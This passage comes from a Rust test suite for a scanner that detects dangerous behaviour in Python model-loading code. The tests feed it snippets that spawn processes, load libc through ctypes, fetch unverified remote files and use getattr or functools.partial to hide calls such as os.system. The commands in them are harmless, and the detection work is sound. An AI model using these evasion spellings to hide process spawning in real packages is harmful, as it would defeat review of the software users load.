                h.message.contains(&format!("called as `{name}`")),
                "{}",
                h.message
            ),
            None => assert!(!h.message.contains("called as"), "{}", h.message),
        }
    }
    // A method that happens to share a renamed name is not the renamed function.
    assert!(hits.iter().all(|h| h.line != 230), "{hits:#?}");
}

/// Scan in-memory files as one target loaded by `family` (the first file is the one the
/// library imports): (file, hit) pairs.
fn scan_target(s: &Scanner, files: &[(&str, &str)], family: Family) -> Vec<(String, Hit)> {
    let remotes: Vec<RemoteFile> = files
        .iter()
        .map(|(p, src)| remote(p, FileKind::Python, src.as_bytes().to_vec()))
        .collect();
    let facts: Vec<FileFacts> = remotes.iter().map(|f| s.analyze(f)).collect();
    let parts: Vec<Part> = remotes
        .iter()
        .zip(&facts)
        .enumerate()
        .map(|(i, (f, facts))| Part {
            path: &f.path,
            kind: f.kind,
            src: &f.content,
            facts,
            entry: i == 0,
        })
        .collect();
    let load = Load {
        family: Some(family),
        entry: None,
    };
    s.verdicts(&parts, &load)
        .into_iter()
        .zip(&remotes)
        .flat_map(|(hits, f)| hits.into_iter().map(|h| (f.path.clone(), h)))
        .collect()
}

#[test]
fn benign_module_level_token_read_and_libc_are_not_errors() {
    let s = scanner();
    let src = "import os\nimport ctypes\n\nHF_TOKEN = os.environ.get(\"HF_TOKEN\")\n_libc = ctypes.CDLL(\"libc.so.6\")\n\ndef trim():\n    _libc.malloc_trim(0)\n\ntrim()\n";
    let hits = scan_src(&s, src);
    assert!(hits.iter().all(|h| h.level < Level::Error), "{hits:#?}");
    let tok = find(&hits, "credential-env");
    assert_eq!(
        (tok.line, tok.level, tok.context),
        (4, Level::Warning, ExecContext::ImportTime)
    );
    let lib = hits
        .iter()
        .find(|h| h.line == 5 && h.level == Level::Warning)
        .unwrap_or_else(|| panic!("{hits:#?}"));
    assert!(["ctypes-load", "native-code"].contains(&lib.rule_id.as_str()));
    // ctypes itself is outside the genre profile, and said to be native code.
    let imp = find(&hits, "out-of-profile-import");
    assert_eq!((imp.line, imp.level), (2, Level::Warning));
    assert!(
        imp.message.contains("`ctypes` (native module)"),
        "{}",
        imp.message
    );
}

#[test]
fn process_creation_in_any_spelling_at_import_is_an_error() {
    let s = scanner();
    for src in [
        "import subprocess\nsubprocess.Popen([\"/bin/sh\", \"-c\", \"true\"])\n",
        "from subprocess import Popen as P\nP([\"true\"])\n",
        "import subprocess as s\nrun = s.check_output\nrun([\"true\"])\n",
        "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.system(b\"true\")\n",
        "sp = __import__(\"subprocess\")\nsp.call([\"true\"])\n",
        "import os, threading\nthreading.Thread(target=os.posix_spawn, args=(\"/bin/true\", [], {})).start()\n",
        "import asyncio\nasyncio.run(asyncio.create_subprocess_exec(\"true\"))\n",
    ] {
        let hits = scan_src(&s, src);
        let p = hits
            .iter()
            .find(|h| h.rule_id == "process-creation" && h.level == Level::Error)
            .unwrap_or_else(|| panic!("{src}: {hits:#?}"));
        assert_eq!(p.context, ExecContext::ImportTime, "{src}");
        assert!(p.message.contains("runs at import time"), "{}", p.message);
    }
}

#[test]
fn build_tools_with_literal_commands_are_warnings() {
    let s = scanner();
    let src = "import subprocess, os\nout = subprocess.check_output([\"nvcc\", \"--version\"])\ncmd = \"gcc -O3 -shared {} -o {}\".format(a, b)\nos.system(cmd)\nsubprocess.run([CUDA_HOME + \"/bin/nvcc\", \"-V\"])\nsubprocess.run([\"curl\", \"x\"])\n";
    let hits = scan_src(&s, src);
    for line in [2, 4, 5] {
        let h = hits
            .iter()
            .find(|h| {
                h.line == line && ["process-creation", "os-system"].contains(&h.rule_id.as_str())
            })
            .unwrap_or_else(|| panic!("line {line}: {hits:#?}"));
        assert_eq!(h.level, Level::Warning, "line {line}: {h:#?}");
    }
    let curl = hits
        .iter()
        .find(|h| h.line == 6 && h.rule_id == "process-creation")
        .unwrap_or_else(|| panic!("{hits:#?}"));
    assert_eq!(curl.level, Level::Error);
}

#[test]
fn renamed_spawns_are_followed_across_fetched_files() {
    let s = scanner();
    let modeling = "from transformers import PreTrainedModel\nfrom .utils import launch\nfrom .helpers import *\n\nclass M(PreTrainedModel):\n    def __init__(self, config):\n        super().__init__(config)\n        launch([\"true\"])\n        fetch_weights(config)\n\n    def forward(self, x):\n        return go(x)\n";
    let utils = "from subprocess import Popen as launch\n";
    let helpers = "import urllib.request as ur\nfrom .utils import launch as go\n\ndef fetch_weights(c):\n    return ur.urlopen(c.url)\n";
    let hits = scan_target(
        &s,
        &[
            ("modeling_m.py", modeling),
            ("utils.py", utils),
            ("helpers.py", helpers),
        ],
        Family::Transformers,
    );
    let at = |file: &str, line: u32, id: &str| {
        hits.iter()
            .find(|(f, h)| f == file && h.line == line && h.rule_id == id)
            .map(|(_, h)| h.clone())
            .unwrap_or_else(|| panic!("{file}:{line} {id}: {hits:#?}"))
    };
    let l = at("modeling_m.py", 8, "process-creation");
    assert_eq!((l.level, l.context), (Level::Error, ExecContext::LoadTime));
    assert!(l.message.contains("`subprocess.Popen`"), "{}", l.message);
    assert!(
        l.message.contains("transformers calls on load"),
        "{}",
        l.message
    );
    let n = at("helpers.py", 5, "network-access");
    assert_eq!((n.level, n.context), (Level::Error, ExecContext::LoadTime));
    // Only the user calls `forward`.
    let g = at("modeling_m.py", 12, "process-creation");
    assert_eq!(
        (g.level, g.context),
        (Level::Warning, ExecContext::CallTime)
    );
}

#[test]
fn files_fetched_at_load_are_unverified_unless_data() {
    let s = scanner();
    let modeling = "from transformers import PreTrainedModel\nfrom transformers.utils import cached_file, WEIGHTS_NAME, SAFE_WEIGHTS_NAME\nfrom huggingface_hub import hf_hub_download\n\nclass M(PreTrainedModel):\n    def __init__(self, config):\n        super().__init__(config)\n        p = hf_hub_download(config.repo, config.extra)\n        q = hf_hub_download(repo_id=\"org/x\", filename=\"vocab.json\")\n        for name in [WEIGHTS_NAME, SAFE_WEIGHTS_NAME]:\n            w = cached_file(config.name_or_path, name)\n";
    let hits = scan_target(&s, &[("modeling_m.py", modeling)], Family::Transformers);
    let at = |line: u32| {
        hits.iter()
            .find(|(_, h)| h.line == line && h.rule_id == "unverified-fetched-code")
            .map(|(_, h)| h.clone())
            .unwrap_or_else(|| panic!("{line}: {hits:#?}"))
    };
    assert_eq!(at(8).level, Level::Error);
    assert!(
        at(8).message.contains("not known statically"),
        "{}",
        at(8).message
    );
    assert_eq!(at(9).level, Level::Warning);
    assert_eq!(at(11).level, Level::Warning);
}

#[test]
fn reflection_and_imports_outside_the_profile() {
    let s = scanner();
    let src = "import os\nimport paramiko\nimport einops\nf = getattr(os, \"sys\" + \"tem\")\ng = vars(os)[key]\nm = __import__(\"pty\")\n";
    let hits = scan_src(&s, src);
    let imp: Vec<(u32, Level)> = hits
        .iter()
        .filter(|h| h.rule_id == "out-of-profile-import")
        .map(|h| (h.line, h.level))
        .collect();
    assert_eq!(imp, [(2, Level::Warning), (6, Level::Warning)], "{hits:#?}");
    let r: Vec<u32> = hits
        .iter()
        .filter(|h| {
            h.level == Level::Error
                && ["reflection", "reflective-dangerous-access"].contains(&h.rule_id.as_str())
        })
        .map(|h| h.line)
        .collect();
    assert_eq!(r, [4, 5], "{hits:#?}");
}

/// `functools.partial` binds `getattr` to a module: calling the partial is the getattr,
/// so the lookup resolves to what it names (`os.popen`, called where the partial is
/// called) or is reflection (a computed name). `introspection-escape` also reports
/// `getattr` handed over as a value; a partial over the config is no capability.
#[test]
fn partial_of_getattr_is_followed() {
    let s = scanner();
    let src = "import functools, os\nfrom functools import partial as bind\nfunctools.partial(getattr, os)('system')('true')\nrun = bind(getattr, os, 'popen')\nrun()('true')\nlook = bind(getattr, os)\nf = look(name)\nget = bind(getattr, config)\nh = get('hidden_size')\ncfg = functools.partial(getattr, config)\n";
    let hits = scan_src(&s, src);
    let at = |line: u32, rule: &str, what: &str| {
        hits.iter().any(|h| {
            h.line == line
                && h.level == Level::Error
                && h.rule_id == rule
                && h.message.contains(what)
        })
    };
    assert!(
        hits.iter().any(|h| h.line == 3 && h.level == Level::Error),
        "{hits:#?}"
    );
    assert!(at(5, "process-creation", "`os.popen`"), "{hits:#?}");
    assert!(at(7, "reflection", "`os.<computed>`"), "{hits:#?}");
    assert!(
        !hits
            .iter()
            .any(|h| h.line == 9 || (h.line == 8 && h.rule_id != "introspection-escape")),
        "{hits:#?}"
    );
    // Spelled `functools.partial`, a config lookup is left to the reflection capability,
    // which follows the partial to the config: nothing to report.
    assert!(!hits.iter().any(|h| h.line == 10), "{hits:#?}");
}
